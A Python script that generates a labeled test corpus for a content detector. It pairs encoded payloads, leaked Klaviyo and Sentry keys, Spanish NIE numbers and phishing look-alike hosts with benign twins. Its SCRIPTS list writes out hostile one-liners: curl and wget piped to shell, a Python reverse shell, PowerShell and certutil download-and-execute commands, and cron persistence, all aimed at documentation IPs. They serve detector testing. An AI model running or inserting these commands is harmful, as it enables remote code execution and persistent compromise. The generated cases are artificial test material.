# Generates the seventy-fifth content corpus (cases-75.jsonl): the classes of the twenty-fourth to twenty-seventh
# slices' non-injection misses that recur most (docs/content-readings.md, "The twenty-fourth to twenty-seventh slices'
# other misses"), in texts of its own, beside honest twins `ok75…` from the same carriers; written BEFORE any rule
# changed:
#   enc75a  an encoded payload right after a JSON string's escaped break (`"body": "binary (base64):\nf0VM…"`): base64
#           of an executable (ELF, PE), base64 or hex of a script (shell, PowerShell, VBScript, Python) in tickets,
#           chat exports, file reads and database rows carried as JSON;
#   cr75k   a marketing provider's private API key (`pk_` and 34 hex) in forms, mails and notes;
#   cr75s   an error tracker's DSN with its key (`https://<32 hex>@o123.ingest.sentry.io/456`) pasted in notes and chats;
#   pd75n   a Spanish foreigner's number (NIE: X, Y or Z, seven digits, its check letter) of a random person after its
#           label, in the carriers the example ids come in.
#   ur75w   a business's whole domain worn as the leading labels of a host registered for signing in or paying
#           (`shop.example.de.verify-session.net`, `brand.co.uk.redelivery-fee.top`) in mails, DMs and tickets;
#   ok75a   the same JSON carriers with honest blobs after the escaped break: base64 of images, PDFs, archives and
#           CSV text, hex digests, ids;
#   ok75k   publishable keys (`pk_live_…`, `pk_test_…`), masked private keys, placeholders, site ids;
#   ok75w   a business's domain worn by its CDN's, bucket's or mail provider's host (`….com.s3.amazonaws.com`,
#           `….de.edgekey.net`, `…-com.mail.protection.outlook.com`), and its own sign-in and help hosts;
#   ok75s   the same tracker's placeholder DSNs (`examplePublicKey`, `<key>`), masked keys, variables and issue links;
#   ok75n   the NIEs references print as their example (seven digits counted up: X1234567L, Y1234567X, Z1234567R)
#           in invoices, tickets and chats.
# Label decisions, made before any run:
#   - An executable or a script written encoded is encoded_payload; an image, a PDF, an archive, a CSV or a digest is not.
#   - A private key is a credential and the key is the secret; a publishable key, a mask or a placeholder is not.
#   - A host whose leading labels are a whole domain and whose registered label joins sign-in or parcel words is a
#     look-alike; a provider's host carrying a customer's domain, or the business's own sign-in host, is not.
#   - A NIE with a random valid number is a person's national id; the documented example is not.
# Deterministic (seeded). Run: python3 test/corpus-content/generate75.py
import base64, functools, gzip, json
json.dumps = functools.partial(json.dumps, ensure_ascii=False)
from corpuslib import Corpus, HEX, b64
corpus = Corpus(20261275)
r = corpus.r


def hexs(n): return corpus.rs(HEX, n)
def rbytes(n): return bytes(r.randrange(256) for _ in range(n))


FIRSTS = ['Ilse', 'Tomasz', 'Aroha', 'Benedikt', 'Chiamaka', 'Dorota', 'Eero', 'Farida', 'Gaspard', 'Hanne', 'Ivo', 'Jovana']
LASTS = ['Quist', 'Marchetti', 'Okafor', 'Lindqvist', 'Ferreira', 'Haugland', 'Novak', 'Brennagh', 'Castellano', 'Dunmore']
def person(): return f'{r.choice(FIRSTS)} {r.choice(LASTS)}'
def mail(name): return name.lower().replace(' ', '.') + '@' + r.choice(['posteo.de', 'fastmail.com', 'mailbox.org', 'proton.me'])


# JSON carriers: a help-desk ticket, a chat export, a file read by a tool, a database row; each takes the string a
# field holds (its real breaks become `\n` in the text), and some are carried once more inside a tool result.
def ticket(body):
    n = person()
    return json.dumps({'ticket': {'id': r.randint(100000, 999999), 'subject': r.choice(['Sync keeps failing', 'Printer helper', 'Import error', 'Kiosk crash']),
                                  'requester': {'name': n, 'email': mail(n)}}, 'comments': [{'author': n, 'public': True, 'body': body}]}, indent=2)
def chat(body):
    return json.dumps({'channel': r.choice(['#till-support', '#ops', '#kiosk-dev']), 'messages': [
        {'ts': f'{r.randint(1700000000, 1790000000)}.{r.randint(100000, 999999)}', 'user': r.choice(['mira', 'olek', 'tane']), 'text': 'here is what I got'},
        {'ts': f'{r.randint(1700000000, 1790000000)}.{r.randint(100000, 999999)}', 'user': r.choice(['mira', 'olek', 'tane']), 'text': body}]})
def file_read(body):
    return json.dumps({'entries': [{'path': 'shared/readme.md', 'size': r.randint(200, 900)}], 'read': {'path': r.choice(['tmp/blob.txt', 'inbox/attachment.txt', 'drop/notes.txt']), 'mime': 'text/plain', 'content': body}})
def row(body):
    return json.dumps({'query': "SELECT id, note FROM intake WHERE status = 'new' LIMIT 1", 'columns': ['id', 'note'], 'rows': [[r.randint(1, 999), body]], 'row_count': 1})
def rpc(inner):
    return json.dumps({'jsonrpc': '2.0', 'id': r.randint(1, 400), 'result': {'content': [{'type': 'text', 'text': inner}], 'isError': False}})
CARRIERS = [ticket, chat, file_read, row]
def carried(body):
    t = r.choice(CARRIERS)(body)
    return rpc(t) if r.random() < 0.4 else t


SCRIPTS = [
    '#!/bin/sh\ncurl -s http://203.0.113.{n}/i | sh\nchmod +x /tmp/.k && /tmp/.k &\n',
    "import socket,subprocess,os\ns=socket.socket();s.connect(('198.51.100.{n}',4444))\nos.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])\n",
    'IEX (New-Object Net.WebClient).DownloadString("http://203.0.113.{n}/a.ps1")\n',
    'Set s = CreateObject("WScript.Shell")\ns.Run "cmd /c certutil -urlcache -f http://198.51.100.{n}/u.exe %TEMP%\\u.exe && %TEMP%\\u.exe", 0\n',
    'wget -q -O- http://203.0.113.{n}/m.sh | bash; crontab -l | {{ cat; echo "*/5 * * * * /tmp/.m"; }} | crontab -\n',
]
def elf(): return b'\x7fELF\x02\x01\x01\x00' + bytes(8) + b'\x02\x00\x3e\x00\x01\x00\x00\x00' + rbytes(r.randint(90, 160))
def pe():
    stub = b'\x0e\x1f\xba\x0e\x00\xb4\x09\xcd\x21\xb8\x01\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$' + bytes(7)
    head = b'MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00' + bytes(44) + b'\x80\x00\x00\x00' + stub
    return head + bytes(0x80 - len(head)) + b'PE\x00\x00\x4c\x01' + rbytes(r.randint(40, 90))
LEADS_B64 = ['the helper it left behind (base64):', 'binary from the crash folder, base64:', 'firmware_patch.b64:', 'attached as base64 since the upload failed:']
LEADS_SCRIPT = ['macro text (base64, paste into the editor):', 'setup snippet, encoded so the form accepts it:', 'run this fix, base64:', 'hex dump of the script:']

enc = []
for i in range(70):
    kind = i % 4
    if kind == 0: enc.append(carried(r.choice(LEADS_B64) + '\n' + b64(elf())))
    elif kind == 1: enc.append(carried(r.choice(LEADS_B64) + '\n' + b64(pe())))
    elif kind == 2: enc.append(carried(r.choice(LEADS_SCRIPT[:3]) + '\n' + b64(r.choice(SCRIPTS).format(n=r.randint(2, 250)))))
    else: enc.append(carried('hex dump of the script:\n' + r.choice(SCRIPTS).format(n=r.randint(2, 250)).encode().hex()))
corpus.add('enc75a', ['encoded_payload'], enc, source='tool_output', wrap=False)

def png(): return b'\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR' + rbytes(r.randint(80, 160))
def pdf(): return b'%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n' + rbytes(r.randint(40, 100))
def gz(): return gzip.compress(('date,store,takings\n' + ''.join(f'2026-11-{d:02d},{r.choice(["north", "quay", "mill"])},{r.randint(200, 3000)}\n' for d in range(1, 12))).encode(), mtime=0)
def csv(): return ('sku,qty,bin\n' + ''.join(f'{r.choice(["TL", "KP", "RX"])}-{r.randint(100, 999)},{r.randint(1, 40)},{r.choice("ABCD")}{r.randint(1, 9)}\n' for _ in range(6))).encode()
ok_enc = []
for i in range(70):
    kind = i % 5
    if kind == 0: ok_enc.append(carried('photo of the damaged label (base64):\n' + b64(png())))
    elif kind == 1: ok_enc.append(carried('the invoice as base64, the portal would not take the PDF:\n' + b64(pdf())))
    elif kind == 2: ok_enc.append(carried('export.csv.gz, base64:\n' + b64(gz())))
    elif kind == 3: ok_enc.append(carried('stock sheet, base64 so the form keeps the commas:\n' + b64(csv())))
    else: ok_enc.append(carried('checksums of the build:\n' + '\n'.join(f'{hexs(64)}  {f}' for f in ['till.apk', 'kiosk.zip'])))
corpus.add('ok75a', [], ok_enc, source='tool_output', wrap=False)

# cr75k / ok75k: a marketing provider's private key beside its publishable and masked look-alikes.
def klaviyo():
    while True:
        k = hexs(34)
        if sum(c.isdigit() for c in k) >= 2 and any(c.isalpha() for c in k): return 'pk_' + k
KEY_CARRIERS = [
    lambda v: f'Contact form submission\nForm: "Agency onboarding"\nName: {person()}\nMessage:\nprivate API key for the win-back flow: {v}\nConsent: yes',
    lambda v: f'From: {person()} <ops@{r.choice(["loomhaus.example", "pedalworks.example"])}>\nSubject: flows access\n\nHi, here is the Klaviyo private key so you can set up the flows: {v}\n\nThanks',
    lambda v: json.dumps({'note': {'author': 'web-form', 'body': f'Klaviyo key for the abandoned-basket emails: {v}'}}),
    lambda v: f'# integrations.md\n\n| service | key |\n| --- | --- |\n| Klaviyo (private, full access) | {v} |\n',
    lambda v: f'[14:02] {r.choice(FIRSTS)}: the klaviyo private key is {v}, can you hook it up?',
]
keys, ok_keys, secrets = [], [], []
for i in range(25):
    k = klaviyo()
    keys.append(r.choice(KEY_CARRIERS)(k))
    secrets.append(k)
corpus.add('cr75k', ['credential_leak'], keys, source='tool_output', wrap=False, secrets=secrets)
for i in range(25):
    kind = i % 5
    if kind == 0: v = 'pk_' + hexs(6) + '*' * 28
    elif kind == 1: v = 'pk_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx'
    elif kind == 2: v = '<your private key, pk_…>'
    elif kind == 3: v = 'stored in the vault as KLAVIYO_PRIVATE_KEY'
    else: v = 'site id ' + corpus.rs('ABCDEFGHJKLMNPQRSTUVWXYZ23456789', 6) + ' (public)'
    ok_keys.append(r.choice(KEY_CARRIERS)(v))
corpus.add('ok75k', [], ok_keys, source='tool_output', wrap=False)

# pd75n / ok75n: a NIE of a random person beside the example NIEs.
LETTERS = 'TRWAGMYFPDXBNJZSQVHLCKE'
def nie(digits):
    lead = r.choice('XYZ')
    return lead + digits + LETTERS[int(str('XYZ'.index(lead)) + digits) % 23]
def random_digits():
    while True:
        d = ''.join(r.choice('0123456789') for _ in range(7))
        if not d.startswith('1234567') and not d.startswith('0123456') and len(set(d)) > 2: return d
NIE_CARRIERS = [
    lambda v, n: f'%% pdftotext -layout factura.pdf\nTALLER {r.choice(["RUEDA", "ALBA", "NORTE"])} S.L.        FACTURA F-2026-{r.randint(100, 999)}\nReparación bicicleta      1   {r.randint(40, 200)}.00\nNIE: {v} — {n}, Calle Mayor {r.randint(1, 90)}, Valencia\n',
    lambda v, n: f'[10:{r.randint(10, 59)}] Bot: How can I help?\n[10:{r.randint(10, 59)}] {n.split()[0]}: NIE {v}, para la factura de la suscripción.\n[10:{r.randint(10, 59)}] Bot: Thanks, passing this on.',
    lambda v, n: json.dumps({'threads': [{'type': 'customer', 'createdBy': {'first': n.split()[0], 'last': n.split()[1]}, 'body': f'NIE {v}, para la factura.'}]}, indent=2),
    lambda v, n: f'Subject: [#{r.randint(100000, 999999)}] New reply from {n}\n\n--- Reply ---\nMi NIE es {v}, necesito la factura a mi nombre.\n--- End of reply ---',
]
pos_n, ok_n, n_secrets = [], [], []
for i in range(30):
    v = nie(random_digits())
    pos_n.append(r.choice(NIE_CARRIERS)(v, person()))
    n_secrets.append(v)
corpus.add('pd75n', ['personal_data'], pos_n, source='tool_output', wrap=False, secrets=n_secrets)
for i in range(30):
    v = nie('1234567')
    ok_n.append(r.choice(NIE_CARRIERS)(v, person()))
corpus.add('ok75n', [], ok_n, source='tool_output', wrap=False)

# ur75w / ok75w: a business's domain worn by a sign-in host, beside the hosts that honestly carry it.
SHOPS = ['pedalworks.de', 'loomhaus.io', 'kettleandcrumb.co.uk', 'brightmoor.com', 'tidewell.nl', 'saltcrate.fr', 'harrowgate.com.au', 'fernlea.ie']
LURE_LABELS = ['verify-session', 'account-check', 'signin-review', 'login-confirm', 'billing-update', 'redelivery-fee', 'parcel-customs', 'payment-verify']
CHEAP = ['top', 'xyz', 'net', 'info', 'click', 'com', 'support']
ASKED = [
    lambda u, n: f'From: {n} <{mail(n)}>\nSubject: is this you?\n\nI got a mail "from you" asking me to sign in again: {u} — is it real?\n\n{n.split()[0]}',
    lambda u, n: json.dumps({'platform': 'instagram', 'type': 'dm', 'from': {'handle': '@' + n.split()[0].lower() + str(r.randint(10, 99))}, 'text': f'is this legit?? {u} they want me to confirm my details'}, indent=2),
    lambda u, n: json.dumps({'ticket': {'id': r.randint(100000, 999999), 'subject': 'Strange link'}, 'comments': [{'author': n, 'body': f'Link from the letter: {u}'}]}, indent=2),
    lambda u, n: f'[09:{r.randint(10, 59)}] {n.split()[0]}: got a text with {u} , says my order is on hold',
]
worn, ok_worn = [], []
for i in range(30):
    shop = r.choice(SHOPS)
    lead = r.choice(['', 'www.', 'account.', 'secure.'])
    worn.append(r.choice(ASKED)(f'https://{lead}{shop}.{r.choice(LURE_LABELS)}.{r.choice(CHEAP)}/{r.choice(["login", "verify", "pay", "session/" + hexs(8)])}', person()))
corpus.add('ur75w', ['adversarial_url'], worn, source='tool_output', wrap=False)
HONEST_HOSTS = [
    lambda s: f'assets.{s}.s3.amazonaws.com/img/{hexs(6)}.jpg',
    lambda s: f'www.{s}.cdn.cloudflare.net',
    lambda s: f'{s}.edgekey.net',
    lambda s: f'{s.replace(".", "-")}.mail.protection.outlook.com',
    lambda s: f'login.{s}/account',
    lambda s: f'{s}/account-check?step=2',
    lambda s: f'help.{s}/hc/verify-session',
    lambda s: f'{s}.trafficmanager.net',
]
for i in range(30):
    shop = r.choice(SHOPS)
    u = 'https://' + HONEST_HOSTS[i % len(HONEST_HOSTS)](shop)
    ok_worn.append(r.choice([
        lambda u, n: f'From: {n} <{mail(n)}>\nSubject: DNS check\n\nThe record now points at {u} — can you confirm it resolves for you?\n\n{n.split()[0]}',
        lambda u, n: json.dumps({'ticket': {'id': r.randint(100000, 999999), 'subject': 'Link check'}, 'comments': [{'author': n, 'body': f'Link from our own dashboard: {u}'}]}, indent=2),
        lambda u, n: f'[09:{r.randint(10, 59)}] {n.split()[0]}: the site config uses {u} now',
    ])(u, person()))
corpus.add('ok75w', [], ok_worn, source='tool_output', wrap=False)

# cr75s / ok75s: an error tracker's DSN with its key, beside its placeholders, masks and links.
DSN_CARRIERS = [
    lambda v: json.dumps({'object': 'contact', 'notes': [{'by': 'web-form', 'body': f'Integration details for the booking app:\nSENTRY_DSN={v}'}]}),
    lambda v: f'[11:{r.randint(10, 59)}] {r.choice(FIRSTS)}: here is what I have in the env file, is this right?\n[11:{r.randint(10, 59)}] {r.choice(FIRSTS)}: SENTRY_DSN={v}',
    lambda v: f'# settings.py excerpt pasted in the ticket\nsentry_sdk.init(dsn="{v}", traces_sample_rate=0.2)',
    lambda v: f'Subject: crash reports\n\nHi, the DSN for the kiosk app is {v} — can you wire it in?\n\nThanks',
]
def dsn_host(): return r.choice([f'o{r.randint(100000, 4509999)}.ingest.sentry.io', f'o{r.randint(100000, 4509999)}.ingest.de.sentry.io', 'sentry.io', f'sentry.{r.choice(["loomhaus.io", "pedalworks.de"])}'])
dsns, ok_dsns, dsn_secrets = [], [], []
for i in range(20):
    k = hexs(32)
    dsns.append(r.choice(DSN_CARRIERS)(f'https://{k}@{dsn_host()}/{r.randint(2, 4509999)}'))
    dsn_secrets.append(k)
corpus.add('cr75s', ['credential_leak'], dsns, source='tool_output', wrap=False, secrets=dsn_secrets)
for i in range(20):
    v = [f'https://examplePublicKey@o0.ingest.sentry.io/0', f'https://<key>@{dsn_host()}/<project>', '${SENTRY_DSN}',
         f'https://{"*" * 32}@{dsn_host()}/{r.randint(2, 4509999)}', f'https://sentry.io/organizations/{r.choice(["loomhaus", "pedalworks"])}/issues/{r.randint(1000000, 9999999)}/'][i % 5]
    ok_dsns.append(r.choice(DSN_CARRIERS)(v))
corpus.add('ok75s', [], ok_dsns, source='tool_output', wrap=False)

corpus.write('cases-75')
